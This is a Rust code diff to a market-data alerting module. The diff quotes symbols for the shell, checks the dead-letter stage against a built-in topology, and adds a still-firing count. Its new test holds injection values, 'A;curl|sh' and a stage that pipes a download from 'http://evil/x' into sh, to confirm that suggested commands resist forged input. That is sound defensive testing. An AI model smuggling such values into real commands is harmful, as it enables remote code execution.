@@ -3,6 +3,7 @@
 use std::fmt::Write;
 
 use candlewick_shared::core::alert::{Kind, State};
+use candlewick_shared::core::topology::Topology;
 use serde::{Deserialize, Serialize};
 use serde_json::{Value, json};
 
@@ -37,7 +38,7 @@ pub fn of(due: &Due, open: &[Known], name: &str) -> Message {
         name: name.to_owned(),
         subject: subject(due, &firing, &resolved),
         body: body(due.group.kind, &firing, &resolved),
-        payload: payload(due, &firing, &resolved),
+        payload: payload(due, &firing, &resolved, open),
     }
 }
 
@@ -100,7 +101,8 @@ fn effect(kind: Kind) -> &'static str {
 /// What to do next, as commands.
 #[must_use]
 pub fn next_step(kind: Kind, known: &Known) -> String {
-    let symbol = known.alert.series.as_ref().map_or_else(|| "SYMBOL".to_owned(), |series| series.symbol.to_string());
+    let symbol =
+        known.alert.series.as_ref().map_or_else(|| "SYMBOL".to_owned(), |series| series.symbol.to_shell_word());
     match kind {
         Kind::BadWatchlist => "candlewick watchlist check; mend what it names".to_owned(),
         Kind::CalendarHorizon => "update Candlewick, whose calendars reach further with each release".to_owned(),
@@ -109,10 +111,10 @@ pub fn next_step(kind: Kind, known: &Known) -> String {
         }
         Kind::CreditsGone => "nothing, or a larger plan at twelvedata.com".to_owned(),
         Kind::DeadLetter => {
-            let stage = &known.stage;
-            format!(
-                "candlewick dlq list --stage {stage}; mend what the reason names; candlewick dlq redrive --stage {stage}"
-            )
+            // An event of the queue says which stage it is from, and may be forged.
+            let stage = Topology::built_in().service(&known.stage);
+            let only = stage.map(|stage| format!(" --stage {stage}")).unwrap_or_default();
+            format!("candlewick dlq list{only}; mend what the reason names; candlewick dlq redrive{only}")
         }
         Kind::DirtyObject | Kind::LongGap => {
             "look at the report and at what was set aside beside the clean object".to_owned()
@@ -171,14 +173,18 @@ fn paragraph(known: &Known) -> String {
     text
 }
 
-fn payload(due: &Due, firing: &[&Known], resolved: &[&Known]) -> Value {
+/// `still_firing` counts all of the group, also what the owner was told before: at 0 the trouble is over.
+fn payload(due: &Due, firing: &[&Known], resolved: &[&Known], open: &[Known]) -> Value {
     let state = if firing.is_empty() { State::Resolved } else { State::Firing };
+    let of_group = |known: &&Known| known.alert.kind == due.group.kind && known.stage == due.group.stage;
+    let still_firing = open.iter().filter(of_group).filter(|known| known.alert.state == State::Firing).count();
     json!({
         "type": "alert",
         "kind": due.group.kind,
         "stage": due.group.stage,
         "severity": due.group.kind.severity().as_str(),
         "state": state,
+        "still_firing": still_firing,
         "firing": firing.iter().map(|known| entry(known)).collect::<Vec<_>>(),
         "resolved": resolved.iter().map(|known| entry(known)).collect::<Vec<_>>(),
     })
@@ -264,6 +270,14 @@ mod tests {
         let message = message(&[], &[1], &[known(1, "AAPL")]);
         assert_eq!(message.subject, "Candlewick: resolved: given up: AAPL 1day");
         assert!(!message.body.contains("What it affects"), "{}", message.body);
+    }
+
+    #[test]
+    fn no_command_is_decided_by_what_was_forged() {
+        let mut forged = known(1, "A;curl|sh");
+        forged.stage = "loader; curl http://evil/x|sh #".to_owned();
+        assert!(next_step(Kind::DeadLetter, &forged).starts_with("candlewick dlq list; "));
+        assert_eq!(next_step(Kind::StaleSeries, &forged), "candlewick refresh 'A;curl|sh'");
     }
 
     #[test]
